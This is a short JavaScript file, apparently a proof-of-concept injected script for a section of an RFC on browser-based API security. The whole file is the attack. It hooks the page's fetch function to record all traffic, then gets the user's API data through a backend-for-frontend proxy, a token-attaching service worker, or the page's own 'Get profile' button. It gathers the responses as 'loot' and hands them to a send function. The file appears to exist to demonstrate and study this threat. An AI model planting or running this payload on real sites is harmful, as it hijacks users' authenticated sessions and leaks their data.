/*
 * RFC 10017, section 5.1.4: the script steals nothing. It has the application
 * call the API and reads the answers, for as long as the page is open.
 */
(async () => {
  const loot = { attack: '5.1.4' };

  // 1. Listen to what the page asks and what it is told.
  const heard = [];
  const original = window.fetch;
  window.fetch = async (...call) => {
    const request = new Request(...call);
    const answer = await original(request);
    heard.push({ url: request.url, text: await answer.clone().text().catch(() => '') });
    return answer;
  };

  // 2. A backend for frontend forwards requests of this page, whoever wrote
  //    them.
  const forwarded = await original('/api/demo/me', { headers: { 'X-CSRF': '1' } });
  if (forwarded.ok) {
    loot.asked = 'GET /api/demo/me';
    loot.api_answer = await forwarded.text();
  }

  // 3. A service worker attaches its token to requests to the API, without a
  //    look at the script that sends them.
  if (!loot.api_answer && navigator.serviceWorker?.controller) {
    const answer = await original(TARGET.api).catch(() => undefined);
    if (answer?.ok) {
      loot.asked = `GET ${new URL(TARGET.api).pathname}, through the worker`;
      loot.api_answer = await answer.text();
    }
  }

  // 4. Elsewhere the page has the token and calls the API itself. Press its own
  //    button, and read along.
  if (!loot.api_answer) {
    const buttons = [...document.querySelectorAll('button')];
    buttons.find((button) => button.textContent.trim() === 'Get profile')?.click();
    for (let waited = 0; waited < 8000 && !loot.api_answer; waited += 50) {
      await new Promise((done) => setTimeout(done, 50));
      const answer = heard.find(({ text }) => /"sub": ?"/.test(text));
      loot.asked = answer && `${new URL(answer.url).pathname}, by the page's own button`;
      loot.api_answer = answer?.text;
    }
  }

  await send(loot);
})();
